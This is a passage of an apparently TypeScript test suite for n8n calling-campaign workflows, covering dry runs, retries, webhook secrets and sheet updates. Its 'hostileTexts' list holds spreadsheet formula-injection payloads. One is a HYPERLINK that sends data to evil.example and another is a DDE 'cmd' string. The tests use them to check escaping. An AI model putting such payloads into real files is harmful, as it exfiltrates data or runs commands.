import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { randomUUID } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { copyFile, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { contacts } from '../engine/helpers/workflows';
import type { Sandbox } from '../sandbox';
import { runCampaign } from './helpers/campaign';
import type { DataTable, Execution, SavedCredential, SavedWorkflow } from './helpers/client';
import {
	chosen,
	credentialWithSecret,
	hostBenchWithClock,
	importExample,
	jsonOf,
	MONDAY,
	postJson,
	rehearsed,
	succeeded,
	SUNDAY,
	webhookListens,
	webhookUrl,
} from './helpers/exampleBench';
import { examples, exampleWorkflow, fillIn } from './helpers/exampleWorkflow';
import { say, until } from './helpers/hostBench';
import { complaintsAbout, describedNodes, type Described } from './helpers/nodeDescriptions';
import { startPostgres, type Postgres } from './helpers/postgres';
import { Teardown } from './helpers/teardown';
import { findings, unfollowed } from './helpers/verdict';

const { bench, setClock, resetClock } = hostBenchWithClock();

const quiet = () => {};

const everyDay = {
	window: [{ days: ['mon', 'tue', 'wed', 'thu', 'fri', 'sat', 'sun'], from: '00:00', to: '24:00' }],
};

/** The examples may call the United States only, so that numbers without + belong to them. */
const NOT_IN_THE_US = /^The destination "0155 501" is not a valid number with the country code \+1/;

/** A sheet of contacts where the examples look for it; answers with its address outside n8n as well. */
async function sheetOf(rows: object[]): Promise<string> {
	const file = path.join(bench.stage.userFolder, 'contacts.csv');
	await writeFile(file, stringify(rows, { header: true }));
	return file;
}

/** A table in n8n in the place of a table elsewhere. */
interface StandIn {
	/** The nodes that read and write the table elsewhere. */
	type: string;
	/** The field that tells rows apart. */
	key: string;
	/** What n8n's own table may call a field. */
	columnOf?: (field: string) => string;
	/** Code that makes what the reading node would put out of one row; without it, that is the row. */
	read?: string;
}

/** The same workflow with a table in n8n in the place of another. */
function withStandIn(
	workflow: SavedWorkflow,
	table: DataTable,
	{ type, key, columnOf = (field) => field, read }: StandIn,
): SavedWorkflow {
	const nodes = workflow.nodes.map((node) => {
		if (node.type !== type) return node;
		const isReading = !node.parameters.columns;
		const { [key]: keyValue, ...fields } =
			(node.parameters.columns as unknown as { value: Record<string, string> } | undefined)
				?.value ?? {};
		const value = Object.fromEntries(
			Object.entries(fields).map(([field, written]) => [columnOf(field), written]),
		);
		const schema = Object.keys(value).map((id) => ({
			id,
			displayName: id,
			type: 'string',
			display: true,
			removed: false,
		}));
		const conditions = isReading ? [] : [{ keyName: columnOf(key), condition: 'eq', keyValue }];
		return {
			...{
				id: node.id,
				name: node.name,
				position: node.position,
				type: 'n8n-nodes-base.dataTable',
				typeVersion: 1.1,
			},
			parameters: {
				...{
					resource: 'row',
					operation: isReading ? 'get' : 'update',
					...chosen(table),
					matchType: 'allConditions',
					filters: { conditions },
				},
				...(isReading
					? { returnAll: true }
					: {
							columns: { mappingMode: 'defineBelow', value, matchingColumns: [], schema },
							options: {},
						}),
			},
		};
	});
	if (!read) return { ...workflow, nodes };
	const reading = nodes.find(
		({ type, parameters }) => type === 'n8n-nodes-base.dataTable' && parameters.operation === 'get',
	)!;
	const { name, position } = reading;
	reading.name = 'Rows of the table';
	const parameters = { mode: 'runOnceForEachItem', jsCode: read };
	nodes.push({
		id: randomUUID(),
		name,
		position,
		type: 'n8n-nodes-base.code',
		typeVersion: 2,
		parameters,
	});
	const link = workflow.connections['Start campaign']!.main![0]![0]!;
	const connections = {
		...workflow.connections,
		'Start campaign': { main: [[{ ...link, node: reading.name }]] },
		[reading.name]: { main: [[link]] },
	};
	return { ...workflow, nodes, connections };
}

/** The campaign's results file. */
const resultsIn = async (file: string) =>
	parse<Record<string, string>>(await readFile(file), { columns: true, bom: true });

/** Its headings and cells that a spreadsheet would evaluate; a phone number or an amount is no formula. */
const formulasIn = async (file: string): Promise<string[]> =>
	parse(await readFile(file, 'utf8'), {
		bom: true,
		relax_column_count: true,
		record_delimiter: ['\n', '\r\n', '\r'],
	})
		.flat()
		.filter((cell) => /^\s*[=+@-]|^[\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));

/** What somebody else may write into a sheet, or the API into a reason. */
const hostileTexts = [
	'=HYPERLINK("http://evil.example/?"&A2,"Click")',
	"+1+cmd|' /C calc'!A0",
	'-2+3+cmd',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	' =1+1',
	'Ada\r=1+1',
];

describe('campaign.workflow.json', () => {
	/** What the table says, by phone number. */
	const keptOutcomes = async () => {
		const kept = (await (await bench.stage.client.findDataTable('call_outcomes'))?.rows()) ?? [];
		return kept
			.map(({ phone, name, called, reached, reason }) => [phone, name, called, reached, reason])
			.sort();
	};
	// Calls of a sandbox that is gone cannot be followed.
	beforeEach(async () => await (await bench.stage.client.findDataTable('call_outcomes'))?.remove());

	it('as it is imported, calls nobody and writes for each contact what would be sent', async () => {
		const rows = contacts(12).map((row, n) => (n === 4 ? { ...row, phone: '0155 501' } : row));
		const { execution, totals, resultsFile } = await runCampaign(bench.stage, quiet, {
			contactsFile: await sheetOf(rows),
			mode: 'dryRun',
		});
		succeeded(execution);
		expect(bench.sandbox.requests).toEqual([]);
		expect(totals).toBe(
			'Nobody was called: Mode is Dry Run. 12 rows: 11 would be called, 1 not (1 invalid). To call them, set Mode to Live. Row 5 has to be corrected. Countries: United States 11. Sent as prompt variables: "name" and "amount".',
		);
		const results = await resultsIn(resultsFile);
		expect(results.map((row) => [row.name, row.status, row['prompt_variables.name']])).toEqual(
			rows.map(({ name }, n) => (n === 4 ? [name, 'invalid', ''] : [name, 'dry_run', name])),
		);
		expect(results[4]!.reason).toMatch(NOT_IN_THE_US);
	});

	it('calls 100 contacts, waits for their calls, and writes each one’s columns and conversation into the results file', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 600 });
		const rows = contacts(100);
		const campaign = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows) });
		expect(await findings(campaign, bench.sandbox)).toEqual([]);
		expect(unfollowed(campaign)).toEqual([]);
		expect(campaign.totals).toBe('100 rows: 100 called, 0 not called');

		const results = await resultsIn(campaign.resultsFile);
		const records = new Map(
			bench.sandbox.journal.map(({ phone, consentId }) => [phone, String(consentId)]),
		);
		expect(results).toEqual(
			rows.map(({ name, phone, amount }) => ({
				status: 'initiated',
				called: 'yes',
				reached: 'TRUE',
				reason: '',
				destination: phone,
				phone,
				name,
				amount: String(amount),
				success: 'TRUE',
				consent_id: records.get(phone),
				call_sid: '',
				batch_id: expect.stringMatching(/^[0-9a-f-]{36}$/),
				conversation_id: expect.stringMatching(/^\d+$/),
				auto_call_error: '',
				settled: 'TRUE',
			})),
		);
		expect(new Set(results.map(({ conversation_id }) => conversation_id)).size).toBe(100);

		const reads = bench.sandbox.requests.filter(({ route }) => route === 'batch').length;
		say(`100 contacts, 10 batches, ${reads} reads until all were finished`);
	});

	it('writes a row also for those who were not dialed, with the reason and without a conversation', async () => {
		const rows = contacts(4);
		bench.sandbox.destinationOutcome.set(rows[1]!.phone, {
			status: 'failed',
			error: 'No route to this number',
		});
		const campaign = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows) });
		succeeded(campaign.execution);
		expect(campaign.outcomes.flat().map(({ output }) => output)).toEqual([
			'Called',
			'Not Called',
			'Called',
			'Called',
		]);
		const results = await resultsIn(campaign.resultsFile);
		const outcomes = results.map(({ name, status, called, reason, reached, conversation_id }) => [
			name,
			status,
			called,
			reason,
			reached,
			conversation_id !== '',
		]);
		expect(outcomes).toEqual(
			rows.map(({ name }, n) =>
				n === 1
					? [name, 'failed', 'no', 'No route to this number', '', false]
					: [name, 'initiated', 'yes', '', 'TRUE', true],
			),
		);
	});

	describe('a cell that a spreadsheet would take for a formula', () => {
		const rows = [
			...hostileTexts.map((name, n) => ({
				'=2+5': 'x',
				phone: contacts(20)[n]!.phone,
				name,
				amount: '-12.50',
			})),
			{ '=2+5': 'x', phone: '+1-415-555-0177', name: 'Ada, "the first"', amount: '7' },
		];

		it.each(['dryRun', 'live'] as const)(
			'is text in the results file, and phone numbers and amounts are as they were (Mode: %s)',
			async (mode) => {
				for (const [n, error] of hostileTexts.entries())
					bench.sandbox.destinationOutcome.set(rows[n]!.phone, { status: 'failed', error });
				const { execution, resultsFile } = await runCampaign(bench.stage, quiet, {
					contactsFile: await sheetOf(rows),
					mode,
				});
				succeeded(execution);
				expect(await formulasIn(resultsFile)).toEqual([]);

				const results = await resultsIn(resultsFile);
				const byPhone = new Map(results.map((row) => [row.destination, row]));
				expect(results).toHaveLength(rows.length);
				expect(byPhone.get(rows[0]!.phone)).toMatchObject({
					"'=2+5": 'x',
					name: `'${hostileTexts[0]}`,
					amount: '-12.50',
					...(mode === 'live'
						? { status: 'failed', reason: `'${hostileTexts[0]}` }
						: { 'prompt_variables.name': `'${hostileTexts[0]}` }),
				});
				expect(byPhone.get('+14155550177')).toMatchObject({
					name: 'Ada, "the first"',
					phone: "'+1-415-555-0177",
				});
			},
		);

		it('can be read again: a results file as contacts calls the same numbers', async () => {
			const { resultsFile } = await runCampaign(bench.stage, quiet, {
				contactsFile: await sheetOf(rows),
				mode: 'dryRun',
			});
			const again = path.join(bench.stage.userFolder, 'again.csv');
			await copyFile(resultsFile, again);
			const { outcomes } = await runCampaign(bench.stage, quiet, { contactsFile: again });
			expect(
				outcomes
					.flat()
					.map(({ destination }) => destination)
					.sort(),
			).toEqual(bench.dialed.sort());
			expect(bench.dialed).toHaveLength(rows.length);
		});
	});

	it('executed once more, calls nobody twice, and the table still says who was reached', async () => {
		const rows = contacts(15);
		bench.sandbox.callErrors.set(rows[3]!.phone, 'Nobody answered');
		const { workflow } = await runCampaign(bench.stage, quiet, {
			contactsFile: await sheetOf(rows),
		});
		const outcomes = rows.map(({ phone, name }, n) =>
			n === 3 ? [phone, name, 'yes', 'no', 'Nobody answered'] : [phone, name, 'yes', 'yes', ''],
		);
		expect(await keptOutcomes()).toEqual(outcomes);
		const again = succeeded(await bench.stage.client.runAndWait(workflow, 'Start campaign'));
		expect(await keptOutcomes()).toEqual(outcomes);
		expect(
			jsonOf(again, 'Call contacts').map(({ name, called, status }) => [name, called, status]),
		).toEqual(rows.map(({ name }) => [name, 'no', 'already_called']));
		expect(bench.dialed).toHaveLength(15);
	});

	it('in a dry run, and where nobody was called, writes nothing into the table; where the file cannot be written, the outcomes are in it', async () => {
		const rows = contacts(3);
		bench.sandbox.destinationOutcome.set(rows[1]!.phone, {
			status: 'failed',
			error: 'No route to this number',
		});
		bench.sandbox.callErrors.set(rows[0]!.phone, 'Nobody answered');
		const { workflow } = await runCampaign(bench.stage, quiet, {
			contactsFile: await sheetOf([...rows, rows[0]!]),
			mode: 'dryRun',
		});
		expect(await keptOutcomes()).toEqual([]);
		fillIn(workflow, 'Call contacts', { mode: 'live' });
		fillIn(workflow, 'Write results', {
			fileName: path.join(bench.stage.filesFolder, 'no such folder', 'results.csv'),
		});
		const execution = await bench.stage.client.runAndWait(
			await bench.stage.client.updateWorkflow(workflow),
			'Start campaign',
		);
		expect([execution.status, execution.data.resultData.lastNodeExecuted]).toEqual([
			'error',
			'Write results',
		]);
		expect(await keptOutcomes()).toEqual([
			[rows[0]!.phone, rows[0]!.name, 'yes', 'no', 'Nobody answered'],
			[rows[2]!.phone, rows[2]!.name, 'yes', 'yes', ''],
		]);
	});

	it.each(['stopped', 'killed'])(
		'%s while its calls last and executed again, calls nobody twice, and says of each who was reached',
		async (how) => {
			Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
			const rows = contacts(25);
			bench.sandbox.callErrors.set(rows[3]!.phone, 'Nobody answered');
			const { workflow } = await runCampaign(bench.stage, quiet, {
				contactsFile: await sheetOf(rows),
				mode: 'dryRun',
			});
			fillIn(workflow, 'Call contacts', { mode: 'live' });
			await cutShort(
				await bench.stage.client.updateWorkflow(workflow),
				how,
				async () => (await keptOutcomes()).length === 25,
			);
			expect(await keptOutcomes()).toEqual(
				rows.map(({ phone, name }) => [phone, name, 'yes', '', '']),
			);

			succeeded(await bench.stage.client.runAndWait(workflow, 'Start campaign'));
			expect(await keptOutcomes()).toEqual(
				rows.map(({ phone, name }, n) =>
					n === 3 ? [phone, name, 'yes', 'no', 'Nobody answered'] : [phone, name, 'yes', 'yes', ''],
				),
			);
			expect(bench.dialed).toHaveLength(25);
		},
	);

	it('after the Retry button, writes those without an answer as unknown and the others with their conversation', async () => {
		const rows = contacts(15);
		bench.sandbox.fault({ kind: 'resetAfter', route: 'bulk', times: 1 });
		const { execution, resultsFile } = await runCampaign(bench.stage, quiet, {
			contactsFile: await sheetOf(rows),
		});
		expect(execution.status).toBe('error');
		succeeded(await bench.stage.client.retryExecution(execution.id));
		const results = await resultsIn(resultsFile);
		expect(results.map(({ name }) => name)).toEqual(rows.map(({ name }) => name));
		const known = results.filter(({ status }) => status === 'initiated');
		const unknown = results.filter(({ status }) => status === 'unknown');
		expect([known.length + unknown.length, unknown.length === 5 || unknown.length === 10]).toEqual([
			15,
			true,
		]);
		expect(
			known.every(({ conversation_id, settled }) => conversation_id !== '' && settled === 'TRUE'),
		).toBe(true);
		expect(
			unknown.every(
				({ conversation_id, reached, reason }) =>
					conversation_id === '' && reached === '' && reason !== '',
			),
		).toBe(true);
		expect(bench.sandbox.doubleDialed()).toEqual([]);
	});
});

/** Starts a campaign, and stops it, or kills n8n, when all of its calls are `written` down and none has ended. */
async function cutShort(
	workflow: SavedWorkflow,
	how: string,
	written: () => Promise<boolean>,
): Promise<void> {
	const id = await bench.stage.client.run(workflow, 'Start campaign');
	await until('all calls are written down', written);
	if (how === 'stopped') return await bench.stage.client.stopExecution(id);
	await bench.crash();
	await bench.startAgain();
}

/** What the CRM sends in a dry run; then Live. */
const setToLive = async (
	workflow: SavedWorkflow,
	dryRun: () => Promise<unknown>,
): Promise<SavedWorkflow> => {
	const live = structuredClone(workflow);
	fillIn(live, 'Call customer', { mode: 'live' });
	return await bench.afterDryRun(live, dryRun);
};

describe('webhook-one-call.workflow.json', () => {
	const customer = { record_id: 'crm-4711', name: 'Ada', phone: '+15550107001', amount: 12.5 };

	/** The example, active, and the CRM that asks it. Before it goes live, the CRM has sent a record in a dry run. */
	async function crm(mode: 'live' | 'dryRun') {
		const { client } = bench.stage;
		const data = { name: 'X-CRM-Secret', value: 'only the CRM knows' };
		const secret = await client.createCredential({
			name: 'CRM secret',
			type: 'httpHeaderAuth',
			data,
		});
		const workflow = await importExample(bench, 'webhook-one-call.workflow.json', {
			credentials: [secret],
		});
		await bench.publish(workflow);
		const url = webhookUrl(bench, 'call-customer');
		await webhookListens(() => postJson(url, customer));
		const ask = async (record: object) => {
			const answer = await postJson(url, record, { 'X-CRM-Secret': 'only the CRM knows' });
			return (await answer.json()) as { status?: string };
		};
		if (mode === 'live')
			await bench.publish(
				await setToLive(workflow, () => ask({ ...customer, record_id: 'test-1' })),
			);
		return { workflow, url, ask, end: async () => await client.deactivate(workflow) };
	}

	it('as it is imported, answers the CRM that nobody was called', async () => {
		const { ask, end } = await crm('dryRun');
		expect(await ask(customer)).toMatchObject({
			status: 'dry_run',
			reason: null,
			destination: customer.phone,
			prompt_variables: { name: 'Ada' },
		});
		expect(bench.sandbox.requests).toEqual([]);
		await end();
	});

	it('calls a customer once, however often the CRM asks, and answers with what became of it', async () => {
		const { url, ask, end } = await crm('live');
		expect((await postJson(url, customer)).status).toBe(403);
		expect(bench.dialed).toEqual([]);

		expect(await ask(customer)).toMatchObject({
			status: 'initiated',
			called: 'yes',
			call_id: expect.any(String),
			external_call_id: 'crm-4711',
		});
		expect(await ask(customer)).toMatchObject({
			status: 'already_called',
			called: 'no',
			call_id: null,
		});
		const others = ['crm-4712', 'crm-4712', 'crm-4712'].map((record_id) => ({
			...customer,
			record_id,
			phone: '+15550107002',
		}));
		const answers = await Promise.all(others.map(ask));
		expect(answers.map(({ status }) => status).sort()).toEqual([
			'already_called',
			'already_called',
			'initiated',
		]);
		expect(await ask({ ...customer, record_id: 'crm-4713', phone: '0155 501' })).toMatchObject({
			status: 'invalid',
			reason: expect.stringMatching(NOT_IN_THE_US),
			call_id: null,
		});
		expect(bench.dialed).toEqual([customer.phone, '+15550107002']);
		expect(bench.sandbox.journal[0]).toMatchObject({
			externalCallId: 'crm-4711',
			variables: { name: 'Ada', amount: '12.5' },
		});
		await end();
	});

	it('keeps the CRM’s secret out of all that comes behind the webhook, and out of the answer', async () => {
		const { workflow, ask, end } = await crm('live');
		expect(JSON.stringify(await ask(customer))).not.toContain('only the CRM knows');
		const [{ data }] = (await bench.ended(workflow, 1)) as [Execution];
		const holding = Object.entries(data.resultData.runData).filter(([, run]) =>
			JSON.stringify(run).includes('only the CRM knows'),
		);
		// n8n's own Webhook node stores the headers of its request.
		expect(holding.map(([node]) => node)).toEqual(['CRM asks for a call']);
		await end();
	});
});

describe('scheduled-retry-undialed.workflow.json', () => {
	const imported = async (options: object = {}) =>
		await rehearsed(
			bench,
			await importExample(bench, 'scheduled-retry-undialed.workflow.json', {
				changes: { 'Call new contacts': options },
			}),
			'Call new contacts',
			'Every weekday at nine',
		);

	it('calls the others when a row cannot be called, and gives that row out for mending', async () => {
		const { client, filesFolder } = bench.stage;
		const rows = contacts(12).map((row, n) => (n === 4 ? { ...row, phone: '0155 501' } : row));
		await writeFile(path.join(filesFolder, 'contacts.csv'), stringify(rows, { header: true }));
		const execution = succeeded(await client.runAndWait(await imported(), 'Every weekday at nine'));
		expect(bench.dialed).toHaveLength(11);
		expect(jsonOf(execution, 'Called today').map(({ name }) => name)).toEqual(
			rows.flatMap(({ name }, n) => (n === 4 ? [] : [name])),
		);
		expect(jsonOf(execution, 'Rows to correct')).toMatchObject([
			{ name: 'Person 4', status: 'invalid', reason: expect.stringMatching(NOT_IN_THE_US) },
		]);
		expect(jsonOf(execution, 'Not called today')).toEqual([]);
	});

	it('tries rows again that the service was too busy for, and calls nobody twice on the next day', async () => {
		const { client, filesFolder } = bench.stage;
		const rows = contacts(25);
		await writeFile(path.join(filesFolder, 'contacts.csv'), stringify(rows, { header: true }));
		const [busy, full] = [rows[3]!.phone, rows[20]!.phone];
		bench.sandbox.destinationOutcome.set(busy, {
			status: 'rate_limited',
			error: 'Too many calls',
			times: 1,
		});
		bench.sandbox.destinationOutcome.set(full, {
			status: 'temporarily_unavailable',
			error: 'Lines are busy',
		});
		// Long enough for the one row, and over soon for the other.
		const workflow = await imported({ options: { maxRetryWait: 4, retryUndialed: true } });
		const firstDay = succeeded(await client.runAndWait(workflow, 'Every weekday at nine'));
		const rest = rows.filter(({ phone }) => phone !== full);
		expect(jsonOf(firstDay, 'Called today').map(({ phone, status }) => [phone, status])).toEqual(
			rest.map(({ phone }) => [phone, 'initiated']),
		);
		expect(jsonOf(firstDay, 'Not called today')).toMatchObject([
			{
				name: 'Person 20',
				phone: full,
				status: 'temporarily_unavailable',
				reason: 'Lines are busy',
			},
		]);
		expect(jsonOf(firstDay, 'Rows to correct')).toEqual([]);
		expect(bench.dialed.sort()).toEqual(rest.map(({ phone }) => phone));

		bench.sandbox.destinationOutcome.clear();
		const secondDay = succeeded(await client.runAndWait(workflow, 'Every weekday at nine'));
		expect(bench.dialed.at(-1)).toBe(full);
		expect(bench.dialed).toHaveLength(25);
		expect(bench.sandbox.doubleDialed()).toEqual([]);
		expect(jsonOf(secondDay, 'Called today').map(({ phone }) => phone)).toEqual([full]);
		expect(jsonOf(secondDay, 'Not called today')).toEqual([]);
		expect(jsonOf(secondDay, 'Rows to correct')).toEqual([]);
	});

	it('when the day’s limit ends the run, gives out each row, and the others come out as not called today', async () => {
		const { client, filesFolder } = bench.stage;
		await writeFile(
			path.join(filesFolder, 'contacts.csv'),
			stringify(contacts(30), { header: true }),
		);
		bench.sandbox.settings.dailyLimit = 20;
		const execution = succeeded(await client.runAndWait(await imported(), 'Every weekday at nine'));
		expect(jsonOf(execution, 'Called today')).toHaveLength(20);
		expect(jsonOf(execution, 'Not called today').map(({ status }) => status)).toEqual(
			Array(10).fill('refused'),
		);
		expect(jsonOf(execution, 'Rows to correct')).toEqual([]);
	});
});

describe('cancel-not-dialed.workflow.json', () => {
	/** A batch whose first calls are dialed at once, and the others not for an hour. */
	function halfDialedBatch(sandbox: Sandbox, phones: string[], dialed: number) {
		let records = 0;
		Object.defineProperty(sandbox.settings, 'dialAfterMs', {
			configurable: true,
			enumerable: true,
			get: () => (records++ < dialed ? 0 : 3_600_000),
		});
		return sandbox.addBatch({ phones });
	}

	it('cancels what is not dialed, and says of each other record that it was', async () => {
		const phones = contacts(23).map(({ phone }) => phone);
		const { batchId, consentIds } = halfDialedBatch(bench.sandbox, phones, 7);
		const workflow = await importExample(bench, 'cancel-not-dialed.workflow.json');
		const { nodes } = workflow;
		const which = nodes.find(({ name }) => name === 'Which batch')!;
		const assignments = (
			which.parameters.assignments as unknown as { assignments: Array<{ value: string }> }
		).assignments;
		assignments[0]!.value = batchId;
		const filled = await bench.stage.client.createWorkflow(workflow);

		const execution = succeeded(await bench.stage.client.runAndWait(filled, 'Start'));
		const rowsOf = (node: string) =>
			jsonOf(execution, node).sort((a, b) => Number(a.id) - Number(b.id));
		expect(rowsOf('Not cancelled')).toMatchObject(
			phones
				.slice(0, 7)
				.map((phone, n) => ({
					phone,
					id: consentIds[n],
					cancelled: false,
					status: 'already_placed',
				})),
		);
		expect(rowsOf('Not called any more')).toMatchObject(
			phones
				.slice(7)
				.map((phone, n) => ({
					phone,
					id: consentIds[n + 7],
					cancelled: true,
					status: 'cancelled',
					reason: null,
				})),
		);
	});
});

describe('google-sheet-campaign.workflow.json', () => {
	const written = [
		'call_status',
		'call_reason',
		'call_record',
		'call_batch',
		'reached',
		'conversation_id',
	];

	/** The example with a table in n8n in the place of the sheet: `row_number` tells its rows apart, too. */
	async function withTable(name: string, rows: object[], mode: 'dryRun' | 'live') {
		const { client } = bench.stage;
		const empty = Object.fromEntries(written.map((column) => [column, '']));
		const table = await client.createDataTable(
			name,
			rows.map((row, n) => ({
				row_number: `${n + 2}`,
				...(row as ReturnType<typeof contacts>[number]),
				...empty,
			})),
			{ amount: 'number' },
		);
		const example = await importExample(bench, 'google-sheet-campaign.workflow.json', {
			changes: { 'How they went': { pollInterval: 1 } },
		});
		const saved = await client.updateWorkflow(
			withStandIn(example, table, { type: 'n8n-nodes-base.googleSheets', key: 'row_number' }),
		);
		const workflow =
			mode === 'live' ? await rehearsed(bench, saved, 'Call contacts', 'Start campaign') : saved;
		return {
			workflow,
			run: async () => succeeded(await client.runAndWait(workflow, 'Start campaign')),
			sheet: async () =>
				(await table.rows()).map((row) =>
					Object.fromEntries(written.map((column) => [column, row[column]])),
				),
		};
	}

	const rows = contacts(12).map((row, n) => (n === 4 ? { ...row, phone: '0155 501' } : row));
	const nothing = {
		call_status: '',
		call_reason: '',
		call_record: '',
		call_batch: '',
		reached: '',
		conversation_id: '',
	};
	const toMend = {
		...nothing,
		call_status: 'invalid',
		call_reason: expect.stringMatching(NOT_IN_THE_US),
	};
	const called = {
		...{
			call_status: 'initiated',
			call_reason: '',
			call_record: expect.stringMatching(/^\d+$/),
			call_batch: expect.stringMatching(/^[0-9a-f-]{36}$/),
		},
		...{ reached: 'yes', conversation_id: expect.stringMatching(/^\d+$/) },
	};

	it('as it is imported, calls nobody and writes only into the row that is to be mended', async () => {
		const { run, sheet } = await withTable('sheet, rehearsed', rows, 'dryRun');
		await run();
		expect(await sheet()).toEqual(rows.map((_, n) => (n === 4 ? toMend : nothing)));
		expect(bench.sandbox.requests).toEqual([]);
	});

	it('in a test, writes nothing of the call to the own phone into the row whose words it had', async () => {
		const { workflow, run, sheet } = await withTable('sheet, tested', rows, 'dryRun');
		Object.assign(workflow.nodes.find(({ name }) => name === 'Call contacts')!.parameters, {
			mode: 'test',
			testNumber: '+14155550199',
		});
		await bench.stage.client.updateWorkflow(workflow);
		await run();
		expect(bench.dialed).toEqual(['+14155550199']);
		expect(await sheet()).toEqual(rows.map((_, n) => (n === 4 ? toMend : nothing)));
	});

	it('writes each call’s conversation into its own row, and into a row without a country code how to mend it', async () => {
		bench.sandbox.callErrors.set(rows[7]!.phone, 'Busy');
		const { run, sheet } = await withTable('sheet', rows, 'live');
		await run();
		const missed = { ...called, reached: 'no', call_reason: 'Busy', conversation_id: '' };
		const outcomes = rows.map((_, n) => (n === 4 ? toMend : n === 7 ? missed : called));
		expect(await sheet()).toEqual(outcomes);
		await run();
		expect(await sheet()).toEqual(outcomes);
		expect(bench.dialed).toHaveLength(11);
	});

	it.each(['stopped', 'killed'])(
		'%s while its calls last and executed again, calls nobody twice, and says of each who was reached',
		async (how) => {
			Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
			const { workflow, run, sheet } = await withTable(`sheet, ${how}`, contacts(25), 'live');
			await cutShort(workflow, how, async () =>
				(await sheet()).every(({ call_record }) => call_record !== ''),
			);
			const open = { ...called, reached: '', conversation_id: '' };
			expect(await sheet()).toEqual(Array(25).fill(open));
			await run();
			expect(await sheet()).toEqual(Array(25).fill(called));
			expect(bench.dialed).toHaveLength(25);
		},
	);

	it('says of somebody who is called once more while the last call is open how the new call went', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 6_000 });
		const [person] = contacts(1);
		bench.sandbox.callErrors.set(person!.phone, 'Busy');
		const { workflow, run, sheet } = await withTable('sheet, once more', contacts(1), 'live');
		await cutShort(workflow, 'stopped', async () => (await sheet())[0]!.call_record !== '');
		const [before] = await sheet();
		expect(before).toEqual({ ...called, reached: '', conversation_id: '' });

		bench.sandbox.callErrors.clear();
		Object.assign(workflow.nodes.find(({ name }) => name === 'Call contacts')!.parameters, {
			calledBefore: 'callAgain',
		});
		await bench.stage.client.updateWorkflow(workflow);
		await run();
		expect(bench.dialed).toEqual([person!.phone, person!.phone]);
		expect(await sheet()).toEqual([called]);
		expect((await sheet())[0]!.call_record).not.toBe(before!.call_record);
	});

	it('keeps what became of each call when a later run can call nobody', async () => {
		const { workflow, run, sheet } = await withTable('sheet, kept', contacts(3), 'live');
		await run();
		Object.assign(workflow.nodes.find(({ name }) => name === 'Call contacts')!.parameters, {
			countries: [],
		});
		const { client } = bench.stage;
		const execution = succeeded(
			await client.runAndWait(await client.updateWorkflow(workflow), 'Start campaign'),
		);
		expect(jsonOf(execution, 'Call contacts').map(({ status }) => status)).toEqual(
			Array(3).fill('refused'),
		);
		expect(await sheet()).toEqual(Array(3).fill(called));
	});

	it('when the account’s limit ends the run, writes each row, and the next run calls the rest', async () => {
		bench.sandbox.settings.dailyLimit = 10;
		const { run, sheet } = await withTable('sheet with a limit', contacts(30), 'live');
		await run();
		const statuses = (await sheet()).map(({ call_status }) => call_status);
		expect([statuses.length, statuses.filter((status) => status === 'initiated').length]).toEqual([
			30, 10,
		]);
		expect(new Set(statuses)).toEqual(new Set(['initiated', 'refused']));

		delete bench.sandbox.settings.dailyLimit;
		await run();
		expect(await sheet()).toEqual(Array(30).fill(called));
		expect(bench.sandbox.doubleDialed()).toEqual([]);
		expect(bench.dialed).toHaveLength(30);
	});
});

describe('wait-for-callback.workflow.json', () => {
	it('as it is imported, calls nobody and waits for nothing', async () => {
		const workflow = await importExample(bench, 'wait-for-callback.workflow.json');
		const execution = succeeded(await bench.stage.client.runAndWait(workflow, 'Start'));
		expect(jsonOf(execution, 'Not called')).toMatchObject([
			{ status: 'dry_run', destination: '+15550100101', name: 'Amara Osei' },
		]);
		expect(execution.data.resultData.runData['Wait for the end of the call']).toBeUndefined();
		expect(bench.sandbox.requests).toEqual([]);
	});

	const SECRET = 'secret_of_the_callback_77';
	const CALLBACK = 'b6a4a2a4-0f5c-4d63-9a0e-3c1f5d7e9a03/callback';

	it.each([
		['while the workflow waits', { finishAfterMs: 1_500 }],
		['before the API has answered', { latencyMs: 2_000 }],
	])(
		'goes on with the very execution that placed the call, when the callback comes %s',
		async (_when, settings) => {
			const { client } = bench.stage;
			const credential = await credentialWithSecret(bench, SECRET);
			const imported = await importExample(bench, 'wait-for-callback.workflow.json', {
				credentials: [credential],
			});
			const workflow = await rehearsed(bench, imported, 'Call', 'Start');
			await client.activate(workflow);
			const url = webhookUrl(bench, CALLBACK);
			await webhookListens(() => postJson(url, {}));
			Object.assign(bench.sandbox.settings, {
				...settings,
				callback: { url, headers: { 'X-Callback-Secret': SECRET }, repeats: 1 },
			});

			const id = await client.run(workflow, 'Start');
			await until(
				'the execution that placed the call has ended',
				async () => (await client.getExecution(id)).status === 'success',
			);
			const execution = await client.getExecution(id);
			const [placed] = jsonOf(execution, 'Call');
			expect(jsonOf(execution, 'After the call')).toEqual([
				{ name: 'Amara Osei', phone: '+15550100101', call_id: placed!.call_id },
			]);
			expect(bench.sandbox.journal[0]!.externalCallId).toMatch(
				new RegExp(`^${id}\\?signature=\\w+$`),
			);
			expect(bench.dialed).toEqual(['+15550100101']);

			// The repeated callback started nothing.
			const all = await bench.ended(workflow, 2);
			expect(all).toHaveLength(2);
			succeeded(all.find((ended) => ended.id !== id)!);
			await client.deactivate(workflow);
		},
	);

	it('sends nothing to an address that a callback names, and goes on with nothing else but an execution of this n8n', async () => {
		const { client } = bench.stage;
		const asked: string[] = [];
		const elsewhere = createServer((request, response) => {
			asked.push(`${request.method} ${request.url}`);
			response.end('{}');
		});
		await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
		const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
		const credential = await credentialWithSecret(bench, SECRET);
		const workflow = await importExample(bench, 'wait-for-callback.workflow.json', {
			credentials: [credential],
		});
		await client.activate(workflow);
